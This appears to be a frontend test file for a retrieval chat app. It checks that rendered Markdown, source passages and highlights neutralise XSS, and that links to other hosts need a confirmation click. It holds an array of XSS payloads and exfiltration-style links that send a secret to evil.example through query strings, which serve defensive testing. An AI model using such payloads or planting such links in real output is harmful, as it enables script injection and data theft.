import { fireEvent, render, screen } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { SourceCard } from "../chat/SourceCard";
import { Markdown } from "../components/Markdown";
import { chunk } from "../test/fixtures";
import { highlight } from "./highlight";
import { renderMarkdown } from "./markdown";

const ATTACKS = [
  "<script>window.__pwned = 1</script>",
  '<img src=x onerror="window.__pwned=1">',
  "[click](javascript:window.__pwned=1)",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<div onclick="alert(1)" style="position:fixed">x</div>',
  "![img](x onerror=alert(1))",
  "<svg><script>alert(1)</script></svg>",
];

function mount(html: string) {
  const box = document.createElement("div");
  box.innerHTML = html;
  return box;
}

function assertInert(box: Element, opts: { allowStyle?: boolean } = {}) {
  expect(box.querySelector("script, iframe, img, svg, style, object, embed")).toBeNull();
  for (const el of box.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith("on")).toBe(false);
      if (!opts.allowStyle) expect(attr.name).not.toBe("style");
      expect(attr.value.toLowerCase()).not.toMatch(/^\s*javascript:/);
    }
  }
}

describe("renderMarkdown sanitizing", () => {
  it.each(ATTACKS)("neutralizes %s", (src) => {
    const box = mount(renderMarkdown(`Answer: ${src}\n\nMore text`));
    assertInert(box);
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it("shows raw HTML as literal text instead of dropping it silently", () => {
    const box = mount(renderMarkdown('Look: <img src=x onerror="alert(1)">'));
    expect(box.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(box.querySelector("img")).toBeNull();
  });

  it("still renders normal Markdown", () => {
    const box = mount(renderMarkdown("# Title\n\n**bold** and `code`\n\n- a\n- b\n\n[site](https://example.com)"));
    expect(box.querySelector("h1")).toHaveTextContent("Title");
    expect(box.querySelector("strong")).toHaveTextContent("bold");
    expect(box.querySelectorAll("li")).toHaveLength(2);
    // a link to another site is no link: a button with the URL written beside it (see "links in answers")
    expect(box.querySelector("a")).toBeNull();
    expect(box.querySelector("[data-ext-link]")).toHaveTextContent("site");
    expect(box.querySelector("[data-testid=external-url]")).toHaveTextContent("(https://example.com/)");
  });

  it("the Markdown component never puts attacker markup in the DOM", () => {
    render(<Markdown content={ATTACKS.join("\n\n")} />);
    assertInert(screen.getByTestId("message-content"));
  });
});

describe("passages are text, not HTML", () => {
  it("a passage with script/onerror renders as literal text in a source card", () => {
    const evil = '<script>alert(1)</script><img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a>';
    render(
      <ol>
        <SourceCard index={1} chunk={chunk({ content: evil, title: "<b>t</b>" })} reranked={false} expanded flash={false} onToggle={() => {}} />
      </ol>,
    );
    const card = screen.getByTestId("source-card");
    assertInert(card, { allowStyle: true }); // our own score bar sets a width
    expect(card.querySelector("a[href^=javascript]")).toBeNull();
    expect(screen.getByTestId("source-passage").textContent).toBe(evil);
    expect(screen.getByTestId("source-title").textContent).toBe("<b>t</b>");
  });

  it("highlighting builds nodes, so markup in the text stays text", () => {
    const { container } = render(<p>{highlight("<img src=x onerror=alert(1)> ollama port", "ollama ports")}</p>);
    assertInert(container);
    const marks = container.querySelectorAll("mark");
    expect([...marks].map((m) => m.textContent)).toEqual(["ollama", "port"]);
    expect(container.textContent).toBe("<img src=x onerror=alert(1)> ollama port");
  });
});

describe("citations", () => {
  it("turns [n] into buttons only for existing sources", () => {
    const box = mount(renderMarkdown("Port 11434 [1]. Also [2, 3] and [9].", 3));
    const cites = [...box.querySelectorAll("button[data-cite]")].map((b) => b.getAttribute("data-cite"));
    expect(cites).toEqual(["1", "2", "3"]);
    expect(box.textContent).toContain("[9]");
  });

  it("does not link citations without sources or inside code", () => {
    expect(mount(renderMarkdown("See [1].", 0)).querySelector("[data-cite]")).toBeNull();
    const box = mount(renderMarkdown("`arr[1]`\n\n```\nx[1]\n```", 2));
    expect(box.querySelector("[data-cite]")).toBeNull();
  });

  it("model-written data-cite attributes are stripped (only ours survive)", () => {
    const box = mount(renderMarkdown('<button data-cite="1" onclick="alert(1)">x</button>', 1));
    expect(box.querySelector("[data-cite]")).toBeNull();
  });

  it("clicking a citation calls onCite with its number", () => {
    const onCite = vi.fn();
    render(<Markdown content="Answer [2]." sourceCount={2} onCite={onCite} />);
    const button = screen.getByRole("button", { name: "Show source 2" });
    fireEvent.click(button);
    expect(onCite).toHaveBeenCalledWith(2, button);
  });

  it("hovering or focusing a citation asks for its preview; leaving it too", () => {
    const onPreview = vi.fn();
    render(<Markdown content="Answer [1]." sourceCount={1} onPreview={onPreview} />);
    const button = screen.getByRole("button", { name: "Show source 1" });
    fireEvent.mouseOver(button);
    expect(onPreview).toHaveBeenLastCalledWith(1, button, "hover");
    fireEvent.mouseOut(button);
    expect(onPreview).toHaveBeenLastCalledWith(1, null, "hover");
    fireEvent.focus(button);
    expect(onPreview).toHaveBeenLastCalledWith(1, button, "focus");
  });
});

describe("code blocks", () => {
  it("highlights a known language (escaped) and gives every block a Copy button", () => {
    const box = mount(renderMarkdown("```python\ndef f(x):\n    return '<b>' # hi\n```\n\n```\nplain <i>\n```"));
    const blocks = box.querySelectorAll(".code-block");
    expect(blocks).toHaveLength(2);
    const code = blocks[0].querySelector("code")!;
    expect(code.className).toBe("hljs language-python");
    expect(code.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code.textContent).toBe("def f(x):\n    return '<b>' # hi\n");
    expect(box.querySelector("b, i")).toBeNull(); // the code's tags stay text
    expect(blocks[1].querySelector("code")!.className).toBe("");
    expect([...box.querySelectorAll("[data-testid=code-copy]")].map((b) => b.getAttribute("aria-label"))).toEqual([
      "Copy python code",
      "Copy code",
    ]);
  });

  it("an unknown language is left plain; citations inside code stay text", () => {
    const box = mount(renderMarkdown("```brainfuck\n+[1]\n```", 3));
    expect(box.querySelector("code")!.className).toBe("");
    expect(box.querySelector("[data-cite]")).toBeNull();
  });

  it("Copy puts the block's code on the clipboard", async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.assign(navigator, { clipboard: { writeText } });
    render(<Markdown content={"```js\nconst a = 1;\n```"} />);
    fireEvent.click(screen.getByTestId("code-copy"));
    expect(writeText).toHaveBeenCalledWith("const a = 1;\n");
    expect(await screen.findByText("Copied")).toBeInTheDocument();
  });
});

describe("links in answers", () => {
  const SECRET = "salary of Jane Doe is 123000";
  const planted = `Details [here](https://evil.example/c?d=${encodeURIComponent(SECRET)}).`;

  function noOutboundAnchors(box: Element) {
    for (const a of box.querySelectorAll("a[href]")) {
      expect(new URL(a.getAttribute("href")!, window.location.href).origin).toBe(window.location.origin);
    }
  }

  it.each([
    ["inline", planted],
    ["autolink", `See https://evil.example/c?d=${encodeURIComponent(SECRET)} now`],
    ["angle autolink", `See <https://evil.example/c?d=${encodeURIComponent(SECRET)}>`],
    ["reference", `Details [here][1].\n\n[1]: https://evil.example/c?d=${encodeURIComponent(SECRET)}`],
    ["protocol-relative", `Details [here](//evil.example/c?d=${encodeURIComponent(SECRET)})`],
    ["raw HTML", `<a href="https://evil.example/c?d=${encodeURIComponent(SECRET)}">here</a>`],
  ])("a %s link to another host shows its full URL and is no link", (_, src) => {
    const box = mount(renderMarkdown(src));
    noOutboundAnchors(box);
    expect(box.textContent).toContain("evil.example/c?d=");
    const button = box.querySelector<HTMLElement>("[data-ext-link]");
    if (button) expect(button.dataset.extLink).toContain(encodeURIComponent(SECRET).slice(0, 10));
  });

  it("javascript:, data: and mailto: links become text", () => {
    const box = mount(renderMarkdown("[a](javascript:alert(1)) [b](data:text/html,hi) [c](mailto:x@evil.example?body=secret)"));
    expect(box.querySelector("a, [data-ext-link]")).toBeNull();
    expect(box.textContent).toContain("c (mailto:x@evil.example?body=secret)");
  });

  it("links to ragchat's own pages stay links", () => {
    const box = mount(renderMarkdown(`[doc](/documents/abc) [abs](${window.location.origin}/search?q=x)`));
    expect([...box.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual([
      "/documents/abc",
      `${window.location.origin}/search?q=x`,
    ]);
  });

  it("a click asks first, showing the whole URL; only Open opens it", () => {
    const open = vi.fn();
    vi.stubGlobal("open", open);
    render(<Markdown content={planted} />);
    fireEvent.click(screen.getByRole("button", { name: /here/ }));
    expect(open).not.toHaveBeenCalled();
    const full = `https://evil.example/c?d=${encodeURIComponent(SECRET)}`;
    expect(screen.getByTestId("external-link-full-url")).toHaveTextContent(full);
    fireEvent.click(screen.getByTestId("external-link-cancel"));
    expect(screen.queryByTestId("external-link-dialog")).toBeNull();
    expect(open).not.toHaveBeenCalled();
    fireEvent.click(screen.getByRole("button", { name: /here/ }));
    fireEvent.click(screen.getByTestId("external-link-open"));
    expect(open).toHaveBeenCalledWith(full, "_blank", "noopener,noreferrer");
    vi.unstubAllGlobals();
  });
});
